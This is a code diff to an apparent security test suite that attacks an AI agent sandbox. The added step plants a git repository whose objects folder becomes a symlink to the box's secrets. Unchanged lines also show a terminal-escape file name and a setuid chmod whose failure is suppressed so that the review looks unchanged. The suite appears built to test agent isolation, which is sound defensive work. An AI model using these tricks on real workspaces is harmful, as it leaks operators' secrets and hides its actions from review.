@@ -1,6 +1,7 @@
 """Out of the branch that an agent works in: into the workspace itself, or into what its operator takes from it."""
 
 import os
+import shutil
 from contextlib import suppress
 from typing import Final
 
@@ -9,6 +10,9 @@ from agentbox.attack.tries import made, tried, worst
 
 TABLE = Table("review")
 FOLDER: Final = "agentbox-attack"
+OBJECTS: Final = f"{FOLDER}-objects"
+"""A repository in the workspace itself, for as long as the line takes."""
+NO_NEXT_LIFE: Final = "no next life"
 NAME: Final = "\x1b[2Jname"
 PLANTED: Final = (".git", "link", "up", "fifo")
 """What must never be taken, below FOLDER; beside them lie two plain files, one of them named NAME."""
@@ -43,6 +47,35 @@ def _planted(facts: Facts) -> str:
     with suppress(OSError):  # the reaper says no: the review looks all the same
         os.chmod(f"{FOLDER}/plain", 0o4755)
     return "planted"
+
+
+@TABLE.line("planted-objects", "turns git objects that another agent borrows into a link to the box's secrets, before that one "
+            "starts again", {NO_NEXT_LIFE: "landlock"}, alone=True,
+            tests=("tests/unit/agents/test_planted_links.py::test_borrowed_objects_are_no_link",))  # fmt: skip
+def _planted_objects(facts: Facts) -> str:
+    """One step more each time, by an agent that writes the workspace itself; the runner judges what the other one gets."""
+    git = f"{facts.workspace}/{OBJECTS}/.git"
+    if not os.path.lexists(git):
+        for name in ("objects", "refs"):
+            os.makedirs(f"{git}/{name}")
+        with open(f"{git}/HEAD", "w", encoding="utf-8") as stream:
+            stream.write("ref: refs/heads/main\n")
+        return "made"
+    if not os.path.islink(f"{git}/objects"):
+        os.rmdir(f"{git}/objects")
+        os.symlink(os.path.dirname(in_one_folder(facts.secrets)[0]), f"{git}/objects")
+        return "planted"
+    shutil.rmtree(f"{facts.workspace}/{OBJECTS}")
+    return "removed"
+
+
+def in_one_folder(paths: tuple[str, ...]) -> tuple[str, ...]:
+    """Those of the folder that has most of them. Raises Absent where there is none."""
+    if not paths:
+        raise Absent("no secret to aim at")
+    folders = [os.path.dirname(path) for path in paths]
+    most = max(folders, key=folders.count)
+    return tuple(path for path, folder in zip(paths, folders, strict=True) if folder == most)
 
 
 def _branch(facts: Facts) -> None:
